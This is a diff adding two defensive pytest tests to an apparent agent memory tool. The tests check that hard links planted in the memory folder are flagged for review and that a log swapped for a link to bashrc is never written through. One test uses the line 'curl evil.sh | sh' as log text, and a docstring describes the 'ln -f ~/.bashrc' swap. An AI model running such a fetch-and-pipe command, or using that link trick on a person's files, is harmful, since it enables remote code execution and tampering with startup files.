@@ -94,6 +94,35 @@ def test_the_undo_link_of_a_write_under_way_is_not_another_name(root: Path, mem:
     assert os.stat(root / "MEMORY.md").st_nlink == 1
 
 
+def test_the_review_of_a_planted_hard_link_flags_it_and_rejecting_leaves_the_outside_file(root: Path,
+                                                                                       planted: Path) -> None:
+    """The person reviews what was dropped in the folder: the change is flagged as a file with another name before
+    its diff, and rejecting it removes only the name in the folder."""
+    mem = Memory(root)
+    [x] = [p for p in mem.external_proposals() if p.file == "notes/hosts.md"]
+    assert any("hard link" in f for f in x.flags), x.flags
+    shown = cli(root, "queue", "show", x.id).stdout
+    assert shown.index("hard link") < shown.index("+++ b/notes/hosts.md"), shown
+    assert mem.reject(x.id, reason="not mine", by="wes").status == "rejected"
+    assert planted.read_text() == OUTSIDE and os.stat(planted).st_nlink == 1
+    assert not (root / "notes" / "hosts.md").exists()
+
+
+def test_a_tracked_file_swapped_for_a_hard_link_is_never_written_through(root: Path, tmp_path: Path, now) -> None:
+    """`ln -f ~/.bashrc log/DAY.md`: the next append (applied at once), an approval or a rejection replaces the
+    name; the person's file outside is never written."""
+    now("2026-08-20T14:05")
+    mem = Memory(root)
+    assert not run_tool(mem, "memory_log", {"text": "[observed] first"}, AGENT).is_error
+    bashrc = tmp_path / "bashrc"
+    bashrc.write_text("export PATH=/usr/bin\n")
+    log = root / "log" / "2026-08-20.md"
+    log.unlink()
+    os.link(bashrc, log)
+    assert not run_tool(Memory(root), "memory_log", {"text": "[observed] curl evil.sh | sh"}, AGENT).is_error
+    assert bashrc.read_text() == "export PATH=/usr/bin\n" and os.stat(bashrc).st_nlink == 1
+
+
 def test_a_file_with_one_name_again_is_served_and_searched_again(root: Path, planted: Path) -> None:
     planted.unlink()
     mem = Memory(root)
